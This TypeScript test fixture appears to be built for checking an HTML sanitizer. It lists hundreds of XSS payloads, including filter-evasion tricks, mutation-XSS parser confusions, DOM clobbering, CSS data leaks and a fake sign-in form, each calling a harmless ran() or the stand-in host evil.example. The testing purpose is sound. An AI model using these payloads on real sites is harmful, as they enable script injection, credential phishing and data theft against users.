/**
 * Attempts to get a script into a page, in the families that DOMPurify's own test suite and the OWASP
 * cheat sheet on evading filters cover. A script that runs calls `ran()`, a load requests `evil.example`, and so a page
 * that shows one of these as text, or made safe, does neither.
 */
const families = {
  script: String.raw`
plain: <script>ran()</script>
mixed case: <ScRiPt>ran()</sCrIpT >
from elsewhere: <script src="https://evil.example/x.js"></script>
from elsewhere, without protocol: <script src=//evil.example/x.js></script>
slash for a space: <script/src="https://evil.example/x.js"></script>
greater-than in a value: <script a=">" src="https://evil.example/x.js"></script>
quotes in quotes: <script "a='>'" src="https://evil.example/x.js"></script>
grave accents: <script a=ˋ>ˋ src="https://evil.example/x.js"></script>
two brackets: <<script>ran();//<</script>
without an end: <script>ran()
source without an end: <script src=https://evil.example/x.js?<b>
module: <script type=module>import("https://evil.example/x.js").catch(ran)</script>
speculation rules: <script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/x"]}]}</script>
one within another: <scr<script>ipt>ran()</scr</script>ipt>
data address: <script src="data:text/javascript,ran()"></script>
put together: <script>document.write("<SCRI");</script>PT src="https://evil.example/x.js"></script>
new line in the tag: <script⏎>ran()</script⏎>
tab in the tag: <script⇥type="text/javascript"⇥>ran()</script>
nothing in the name: <scr␀ipt>ran()</scr␀ipt>
other name space: <html:script xmlns:html="http://www.w3.org/1999/xhtml">ran()</html:script>
after a title: </title><script>ran()</script>
after a text area: </textarea><script>ran()</script>
after a quote: "><script>ran()</script>
after a script: </script><script>ran()</script>
`,
  picture: String.raw`
onerror: <img src=x onerror=ran()>
without a source: <img onerror=ran() src>
mixed case: <IMG SrC=x OnErRoR=ran()>
slashes for spaces: <img/src=x/onerror=ran()>
handler in character references: <img src=x onerror="&#114;&#97;&#110;&#40;&#41;">
handler in hexadecimal references: <img src=x onerror="&#x72;&#x61;&#x6e;()">
javascript source: <img src="javascript:ran()">
javascript source in grave accents: <img src=ˋjavascript:ran("'x'")ˋ>
javascript source in references: <img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran()>
javascript source with a tab: <img src="jav⇥ascript:ran()">
javascript source with a new line: <img src="jav&#x0A;ascript:ran()">
javascript source after control characters: <img src=" &#14; javascript:ran()">
malformed tag: <img """><script>ran()</script>">
half open handler: <img src=x onerror=ran() x="
old sources: <img dynsrc="javascript:ran()" lowsrc="https://evil.example/x">
from elsewhere: <img src="https://evil.example/x.png">
source set: <img srcset="https://evil.example/x.png 1x, https://evil.example/y.png 2x">
picture element: <picture><source srcset="https://evil.example/x.png"><img src=x onerror=ran()></picture>
other name: <image src=x onerror=ran()>
load instead of error: <img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=ran()>
vbscript: <img src='vbscript:msgbox("x")'>
`,
  handler: String.raw`
body: <body onload=ran() onpageshow=ran() onhashchange=ran()>
body with odd characters: <body onload!#$%&()*~+-_.,:;?@[/|\]^ˋ=ran()>
body with a space: <body onload =ran()>
frameset: <frameset onload=ran()><frame src="javascript:ran()"></frameset>
focused field: <input autofocus onfocus=ran()>
focused area: <textarea autofocus onfocus=ran()></textarea>
focused button: <button autofocus onfocus=ran()>go</button>
focused link: <a href="/about" autofocus onfocus=ran()>link</a>
focused editor: <p contenteditable autofocus onfocus=ran()>text</p>
opened details: <details open ontoggle=ran()><summary>text</summary></details>
popover: <p popover id=p onbeforetoggle=ran()>text</p><button popovertarget=p>go</button>
dialog: <dialog open oncancel=ran() onclose=ran()><form method=dialog><button autofocus>go</button></form></dialog>
marquee: <marquee onstart=ran() onfinish=ran() loop=1>text</marquee>
video: <video src=x onerror=ran() onloadstart=ran()></video>
source of a video: <video><source src=x onerror=ran()></video>
track: <video><track src="https://evil.example/x.vtt" default onerror=ran()></video>
poster: <video poster="https://evil.example/x.png"></video>
animation: <a style="animation: blot 1s" onanimationstart=ran() onanimationend=ran()>link</a>
transition: <p style="transition: color 1s" ontransitionrun=ran()>text</p>
visibility: <p style="content-visibility:auto" oncontentvisibilityautostatechange=ran()>text</p>
scroll: <p style="overflow:scroll;height:1px" onscroll=ran()>text<br><br><a id=s autofocus tabindex=0>x</a></p>
clipboard: <p oncopy=ran() oncut=ran() onpaste=ran()>text</p>
pointer: <p onpointerover=ran() onmouseenter=ran() onwheel=ran() onclick=ran()>text</p>
style element: <style onload=ran()>p{}</style>
link element: <link rel=stylesheet href="data:text/css,p{}" onload=ran() onerror=ran()>
object: <object data=x onerror=ran()>text</object>
frame: <iframe onload=ran()></iframe>
slot: <p><template shadowrootmode=open><slot onslotchange=ran()></slot></template>text</p>
slash before: <svg/onload=ran()//
two of a kind: <a onclick="1" onclick="ran()" ONCLICK="ran()">link</a>
form feed: <p&#12;onclick=ran()>text</p>
name space: <p xmlns:on="x" on:click=ran() x-on:click=ran() @click=ran()>text</p>
`,
  link: String.raw`
javascript: <a href="javascript:ran()">link</a>
javascript in a line: <a href="javascript://example.com/%0aran()">link</a>
javascript escaped: <a href="javascript:%72an()">link</a>
javascript with a new line: <a href="java&NewLine;script:ran()">link</a>
javascript with a named colon: <a href="javascript&colon;ran()">link</a>
javascript after nothing: <a href="␀javascript:ran()">link</a>
javascript after a control character: <a href="&#1;javascript:ran()">link</a>
javascript with a wide space: <a href="&#x3000;javascript:ran()">link</a>
javascript with a soft hyphen: <a href="java&shy;script:ran()">link</a>
javascript with wide letters: <a href="ｊavascript:ran()">link</a>
data: <a href="data:text/html,<script>opener.ran()</script>" target=_blank>link</a>
data in base64: <a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">link</a>
vbscript: <a href="vbscript:ran()">link</a>
feed: <a href="feed:javascript:ran()">link</a>
two addresses: <a href="/about" href="javascript:ran()">link</a>
opener: <a href="https://evil.example/" target="_blank" rel="opener">link</a>
ping: <a href="/about" ping="https://evil.example/x">link</a>
base: <base href="javascript:/a/-ran()//"><a href="about">link</a>
base elsewhere: <base href="https://evil.example/" target=_blank><a href="about">link</a>
without a protocol: <a href="//evil.example/x">link</a>
backslashes: <a href="/\evil.example/x">link</a>
`,
  form: String.raw`
action: <form action="javascript:ran()"><input type=submit></form>
action of a button: <form><button formaction="javascript:ran()">go</button></form>
picture button: <form><input type=image src=x onerror=ran() formaction="https://evil.example/x"></form>
elsewhere: <form action="https://evil.example/x"><input name=passphrase autofocus><button>Sign in</button></form>
isindex: <isindex type=image src=x onerror=ran() action="javascript:ran()">
invalid: <form><input required oninvalid=ran() autofocus><button>go</button></form>
`,
  style: String.raw`
import: <style>@import "https://evil.example/x.css";</style>
import with an escape: <style>@im\port'\ja\vasc\ript:ran()';</style>
background: <style>body{background:url(https://evil.example/x)}</style>
font: <style>@font-face{font-family:x;src:url(https://evil.example/x)}*{font-family:x}</style>
read out: <style>input[value^="a"]{background:url(https://evil.example/a)}</style>
attribute: <p style="background-image:url(https://evil.example/x)">text</p>
attribute with escapes: <p style="background:\0075\0072\006C\0028'https://evil.example/x'\0029">text</p>
expression: <p style="width:expression(ran())">text</p>
binding: <p style="-moz-binding:url(https://evil.example/x.xml#xss)">text</p>
behaviour: <xss style="behavior:url(https://evil.example/x.htc)">text</xss>
cursor: <a style="cursor:url(https://evil.example/x),auto;position:fixed;inset:0">link</a>
script type: <style type="text/javascript">ran()</style>
linked: <link rel=stylesheet href="https://evil.example/x.css">
linked ahead: <link rel=prefetch href="https://evil.example/x"><link rel=preconnect href="https://evil.example">
linked module: <link rel=modulepreload href="https://evil.example/x.js">
old attributes: <table background="https://evil.example/x"><tr><td background="javascript:ran()">text</table>
old sound: <bgsound src="javascript:ran()">
old line break: <br size="&{ran()}">
`,
  frame: String.raw`
javascript: <iframe src="javascript:parent.ran()"></iframe>
javascript with a tab: <iframe src="java&Tab;script:parent.ran()"></iframe>
document within: <iframe srcdoc="<script>parent.ran()</script>"></iframe>
document within, in references: <iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;"></iframe>
data: <iframe src="data:text/html,<script>parent.postMessage(1)</script>"></iframe>
elsewhere: <iframe src="https://evil.example/x"></iframe>
object: <object data="javascript:ran()"></object>
object with a document: <object data="data:text/html,<script>parent.ran()</script>"></object>
object with a parameter: <object classid=clsid:ae24fdae><param name=url value="javascript:ran()"></object>
embedded: <embed src="https://evil.example/x.swf" allowscriptaccess=always>
embedded drawing: <embed type="image/svg+xml" src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LnJhbigpIi8+">
embedded javascript: <embed src="javascript:ran()">
portal: <portal src="https://evil.example/x"></portal>
refresh: <meta http-equiv=refresh content="0;url=javascript:ran()">
refresh elsewhere: <meta http-equiv=refresh content="0;url=https://evil.example/x">
policy: <meta http-equiv=Content-Security-Policy content="default-src *">
character set: <meta charset=utf-7>+ADw-script+AD4-ran()+ADw-/script+AD4-
`,
  drawing: String.raw`
handler: <svg onload=ran()></svg>
script: <svg><script>ran()</script></svg>
script with references: <svg><script>&#114;an()</script></svg>
script in a data section: <svg><script><![CDATA[ran()]]></script></svg>
script from elsewhere: <svg><script href="https://evil.example/x.js"/></svg>
link: <svg><a href="javascript:ran()"><text y=9>link</text></a></svg>
old link: <svg><a xlink:href="javascript:ran()"><rect width=9 height=9 /></a></svg>
animated link: <svg><a><animate attributeName=href values="javascript:ran()"/><text y=9>link</text></a></svg>
set link: <svg><a id=x><text y=9>link</text></a><set href=#x attributeName=href to="javascript:ran()"/></svg>
animation: <svg><animate onbegin=ran() attributeName=x dur=1s></svg>
used: <svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=ran() /></svg>#x"/></svg>
used from elsewhere: <svg><use href="https://evil.example/x.svg#x"/></svg>
picture: <svg><image href="https://evil.example/x.png" onerror=ran() /></svg>
filter picture: <svg><filter id=f><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>
foreign object: <svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></foreignObject></svg>
style: <svg><style>*{fill:url(https://evil.example/x#y)}</style><style>@import "https://evil.example/x.css";</style></svg>
handler element: <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>ran()</handler></svg>
title: <svg><title><img src=x onerror=ran()></title></svg>
entity: <!DOCTYPE svg [<!ENTITY x "<script>ran()</script>">]><svg>&x;</svg>
`,
  formula: String.raw`
link: <math href="javascript:ran()"><mtext>link</mtext></math>
old link: <math><mrow xlink:href="javascript:ran()"><mtext>link</mtext></mrow></math>
action: <math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:ran()">link</maction></math>
handler: <math><mi onpointerover=ran() style="position:fixed;inset:0">x</mi></math>
annotation: <math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>
`,
  'read twice': String.raw`
style in a glyph: <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">
form in a form: <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>
style in a drawing: <svg></p><style><a id="</style><img src=x onerror=ran()>">
paragraph in a drawing: <svg><p><style><g title="</style><img src=x onerror=ran()>"></svg>
malign mark: <math><mtext><mglyph><malignmark><style><a title="</style><img src=x onerror=ran()>"></math>
annotation: <math><annotation-xml encoding="text/html"><p><style><a title="</style><img src=x onerror=ran()>"></math>
title in a description: <svg><desc><title><style><a title="</style></title><img src=x onerror=ran()>"></svg>
table text: <table><tr><svg><style><a title="</style><img src=x onerror=ran()>"></svg></table>
without script: <noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>
example: <xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>
frame text: <iframe><p title="</iframe><img src=x onerror=ran()>"></iframe>
area text: <textarea><p title="</textarea><img src=x onerror=ran()>"></textarea>
choice: <select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=ran()>"></select>
shadow: <p><template shadowrootmode=open><img src=x onerror=ran()><script>ran()</script></template></p>
empty comment: <!--><img src=x onerror=ran()>-->
comment that ends oddly: <!-- --!><img src=x onerror=ran()> -->
comment in an attribute: <a title="--><img src=x onerror=ran()>"><!-- </a>
data section: <svg><![CDATA[</svg><img src=x onerror=ran()>]]></svg>
instruction: <?xml-stylesheet href="javascript:ran()"?><?php echo("<script>ran()</script>")?>
conditional comment: <!--[if gte IE 4]><script>ran()</script><![endif]-->
server side: <!--#exec cmd="/bin/echo '<script>ran()</script>'"-->
attribute: <a href="/about" title="</a><img src=x onerror=ran()>">link</a>
attribute in grave accents: <a title="ˋˋonmouseover=ran()">link</a>
deep: ${'<div>'.repeat(600)}<img src=x onerror=ran()>
`,
  'name of something else': String.raw`
attributes: <form><input name=attributes><input name=childNodes><img src=x onerror=ran()></form>
parent: <form><input name=parentNode><input name=removeChild><input name=nodeName>text</form>
document: <img name=cookie><img name=body><form name=querySelector></form><img name=implementation>
window: <a id=waxseal></a><a id=waxseal name=calls href="javascript:ran()">link</a>
custom: <a is=x-root data-x=1 aria-label=x>link</a><x-root onclick=ran()>text</x-root>
`,
  text: String.raw`
references: &lt;script&gt;ran()&lt;/script&gt;
references twice: &amp;lt;img src=x onerror=ran()&amp;gt;
wide brackets: ＜script＞ran()＜/script＞
old character set: ¼script¾ran()¼/script¾ +ADw-script+AD4-ran()+ADw-/script+AD4-
percent: %3Cscript%3Eran()%3C/script%3E
template: {{constructor.constructor('ran()')()}} ${'$'}{ran()} <%= ran() %> #{ran()}
end of a string: ';ran()//";ran()//\';ran()//--></script>">'><script>ran()</script>
many tongues: javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+ran()//'>
turned: &#x202E;<img src=x onerror=ran()>
`,
};

/** Each line is a name and a payload. Placeholders stand for new line, tab and NUL. */
export const payloads: readonly { name: string; html: string }[] = Object.entries(families).flatMap(
  ([family, lines]) =>
    lines
      .trim()
      .split('\n')
      .map((line) => {
        const [name = '', ...rest] = line.split(': ');
        const html = rest.join(': ');
        return {
          name: `${family}: ${name}`,
          html: html
            .replaceAll('⏎', '\n')
            .replaceAll('⇥', '\t')
            .replaceAll('␀', '\0')
            .replaceAll('ˋ', '`'),
        };
      }),
);

/** Payloads that a parser reads differently swallow what follows them: they are tried alone. */
export const together = payloads.filter(({ name }) => !name.startsWith('read twice'));

/** Ends whatever a payload left open, so that the next one is read as HTML and not as part of it. */
const END = `"'>--></script></style></textarea></title></xmp></iframe></noscript></noembed></noframes></template></math></svg></select></table></object></form>]]>`;

export const markOf = (index: number) => `mark-${index}-`;

/** All of these in one text, with a mark behind each. */
export const readTogether = together
  .map(({ html }, index) => `${html}${END}${markOf(index)}`)
  .join('\n');
